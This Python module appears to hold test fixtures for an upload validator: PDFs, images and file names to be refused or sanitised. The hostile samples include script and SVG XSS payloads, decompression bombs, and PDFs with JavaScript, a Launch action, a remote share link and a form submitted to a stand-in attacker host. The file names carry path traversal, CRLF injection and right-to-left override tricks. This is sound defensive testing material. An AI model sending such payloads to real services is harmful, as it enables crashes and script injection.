"""Files that people, mistakes and attackers upload: those that are refused, and those that are washed."""

import struct
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream
from PIL import Image

Upload = tuple[str, Callable[[], bytes]]
"""A file name, and how to make the bytes."""

SCRIPT = b"<html><script>alert('x')</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(pages: int = 1, change: Callable[[Pdf], None] | None = None, **save: Any) -> bytes:
    """A PDF with so many empty pages, changed as wished."""
    out = BytesIO()
    with pikepdf.new() as made:
        for _page in range(pages):
            made.add_blank_page(page_size=(595, 842))
        if change:
            change(made)
        made.save(out, **(save or {"deterministic_id": True}))
    return out.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **save: Any) -> bytes:
    """A small picture."""
    out = BytesIO()
    Image.radial_gradient("L").resize(size).convert("RGB").save(out, kind, **save)
    return out.getvalue()


@cache
def bomb(side: int) -> bytes:
    """A PNG of side × side pixels in a few kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\0" + b"\0" * ((side + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _row in range(side)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _lying_count(made: Pdf) -> None:
    made.Root.Pages.Count = 2


def _no_pages(made: Pdf) -> None:
    made.Root.Pages.Kids = Array([])
    made.Root.Pages.Count = 0


def _endless_tree(made: Pdf) -> None:
    made.Root.Pages.Kids = Array([made.Root.Pages])


def _deep(made: Pdf) -> None:
    nest: Any = Array([1])
    for _level in range(300):
        nest = Array([nest])
    made.Root.Deep = nest


def object_stream_bomb() -> bytes:
    """A PDF whose cross-reference stream unpacks to 200 MB."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b"\0" * 1_000_000) for _part in range(200)) + packer.flush()
    head = b"%PDF-1.5\n"
    stream = (
        b"1 0 obj\n<< /Type /XRef /Size 100000000 /W [1 2 1] /Root 2 0 R /Filter /FlateDecode /Length "
        + str(len(data)).encode()
        + b" >>\nstream\n"
        + data
        + b"\nendstream\nendobj\nstartxref\n"
        + str(len(head)).encode()
        + b"\n%%EOF\n"
    )
    return head + stream


REFUSED: dict[str, Upload] = {
    "empty": ("a.pdf", lambda: b""),
    "too large": ("a.pdf", lambda: pdf() + b"\0" * (10 * 1024 * 1024)),
    "web page called pdf": ("a.pdf", lambda: SCRIPT),
    "script before the pdf": ("a.pdf", lambda: b"<script>1</script>" + pdf()),
    "line before the pdf": ("a.pdf", lambda: b"\n" + pdf()),
    "drawing called png": ("a.png", lambda: SVG),
    "drawing": ("a.svg", lambda: SVG),
    "gif": ("a.gif", lambda: b"GIF89a" + b"\0" * 40),
    "gif called jpg": ("a.jpg", lambda: b"GIF89a" + b"\0" * 40),
    "program": ("a.exe", lambda: b"MZ" + b"\0" * 100),
    "program called pdf": ("a.pdf", lambda: b"MZ" + b"\0" * 100),
    "office document called pdf": ("a.pdf", lambda: b"PK\x03\x04" + b"\0" * 100),
    "office document": ("a.docm", lambda: b"PK\x03\x04" + b"\0" * 100),
    "png called jpg": ("a.jpg", lambda: picture("PNG")),
    "pdf called jpg": ("a.jpg", pdf),
    "jpg called pdf": ("a.pdf", picture),
    "program behind a second ending": ("a.pdf.exe", pdf),
    "no ending": ("berkas", pdf),
    "no name": ("", pdf),
    "NUL in the name": ("a.exe\0.pdf", pdf),
    "way up in the name": ("../../etc/a.pdf", pdf),
    "Windows way in the name": ("..\\a.pdf", pdf),
    "new line in the name": ("a\r\nX-Evil: 1.pdf", pdf),
    "turned writing in the name": ("a\u202efdp.pdf", pdf),
    "endless name": ("a" * 4096 + ".pdf", pdf),
    "locked": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="geheim", owner="x"))),
    "locked for printing": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="", owner="x"))),
    "51 pages": ("a.pdf", lambda: pdf(51)),
    "60 pages that say 2": ("a.pdf", lambda: pdf(60, _lying_count)),
    "no pages": ("a.pdf", lambda: pdf(1, _no_pages)),
    "page tree without end": ("a.pdf", lambda: pdf(1, _endless_tree)),
    "nested too deep": ("a.pdf", lambda: pdf(1, _deep)),
    "only a pdf's first line": ("a.pdf", lambda: b"%PDF-1.7\n" + SCRIPT),
    "cut pdf": ("a.pdf", lambda: pdf()[: len(pdf()) // 3]),
    "pdf that unpacks to 200 MB": ("a.pdf", object_stream_bomb),
    "64 megapixels": ("a.png", lambda: bomb(8_000)),
    "400 megapixels": ("a.png", lambda: bomb(20_000)),
    "cut jpg": ("a.jpg", lambda: picture()[: len(picture()) // 2]),
    "only a jpg's first bytes": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + SCRIPT),
    "only a png's first bytes": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + SCRIPT),
}


def _javascript(made: Pdf) -> None:
    action = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    made.Root.OpenAction = action
    made.Root.AA = Dictionary(WC=action)
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", made.make_indirect(action)])))
    made.pages[0].AA = Dictionary(O=action)


def _launch(made: Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=Name.Launch, F="calc.exe")
    )
    remote = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=Name.GoToR, F="//evil/share")
    )
    made.pages[0].Annots = Array([made.make_indirect(link), remote])


def _chained(made: Pdf) -> None:
    bad = made.make_indirect(Dictionary(S=Name.SubmitForm, F="http://evil.invalid/"))
    made.pages[0].Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([0, 0, 9, 9]),
                A=Dictionary(S=Name.URI, URI="https://example.id/", Next=Array([bad])),
            )
        ]
    )


def _embedded(made: Pdf) -> None:
    made.attachments["virus.exe"] = EICAR
    spec = Dictionary(Type=Name.Filespec, F="x.exe", EF=Dictionary(F=Stream(made, EICAR)))
    made.Root.AF = Array([spec])
    made.pages[0].Annots = Array(
        [
            made.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, FS=spec, Rect=Array([0, 0, 9, 9]))
            )
        ]
    )


def _xfa(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(made, SCRIPT))


def _everything(made: Pdf) -> None:
    for change in (_javascript, _embedded, _xfa):
        change(made)


def _located() -> Image.Exif:
    place = Image.Exif()
    place[0x010E] = "rahasia-exif"
    place.get_ifd(0x8825)[2] = (8.0, 13.0, 0.0)
    return place


WASHED: dict[str, Upload] = {
    "JavaScript": ("a.pdf", lambda: pdf(1, _javascript)),
    "starts a program": ("a.pdf", lambda: pdf(1, _launch)),
    "sends a form, behind a link": ("a.pdf", lambda: pdf(1, _chained)),
    "program inside": ("a.pdf", lambda: pdf(1, _embedded)),
    "XFA form": ("a.pdf", lambda: pdf(1, _xfa)),
    "web page behind the pdf": ("a.pdf", lambda: pdf() + SCRIPT),
    "everything at once": ("a.pdf", lambda: pdf(1, _everything)),
    "place in the photo": ("a.jpg", lambda: picture(exif=_located())),
    "comment in the photo": ("a.jpg", lambda: picture(comment=SCRIPT)),
    "web page behind the photo": ("foto.JPG", lambda: picture() + SCRIPT),
    "archive behind the photo": ("a.jpeg", lambda: picture() + b"PK\x03\x04" + EICAR),
    "web page behind the png": ("a.png", lambda: picture("PNG") + SCRIPT),
}
"""Files that we take after taking something out of them."""
